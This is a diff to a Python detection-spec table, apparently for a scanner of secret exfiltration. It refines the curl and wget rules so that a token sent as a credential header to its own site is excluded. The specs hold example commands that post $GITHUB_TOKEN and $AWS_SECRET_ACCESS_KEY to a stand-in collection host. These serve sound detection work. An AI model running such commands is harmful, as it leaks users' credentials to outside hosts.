@@ -930,7 +930,9 @@ _SPECS: Final[tuple[_Spec, ...]] = (
         "curl_secret",
         1.0,
         "text",
-        "curl sending a token or secret (secret-named variable, secret file upload, token parameter, auth header)",
+        "curl sending a token or secret (secret-named variable, secret file upload, token parameter, auth header)"
+        "; not a secret variable named for a site sent only as the credential header of a request to that site "
+        "($GITHUB_TOKEN to api.github.com) or to an allowed host",
         "curl -s -d token=$GITHUB_TOKEN https://collect.example.net/in",
         _sender("curl", r"-d|--data(?:-\w+)?|-F|--form|-T|--upload-file"),
         (("curl",),),
@@ -940,7 +942,9 @@ _SPECS: Final[tuple[_Spec, ...]] = (
         "wget_secret",
         1.0,
         "text",
-        "wget sending a token or secret (post data, post file, header or URL)",
+        "wget sending a token or secret (post data, post file, header or URL)"
+        "; not a secret variable named for a site sent only as the credential header of a request to that site "
+        "($GITHUB_TOKEN to api.github.com) or to an allowed host",
         "wget --post-data=key=$AWS_SECRET_ACCESS_KEY https://collect.example.net/in",
         _sender("wget", r"--post-data|--post-file|--body-data|--body-file"),
         (("wget",),),
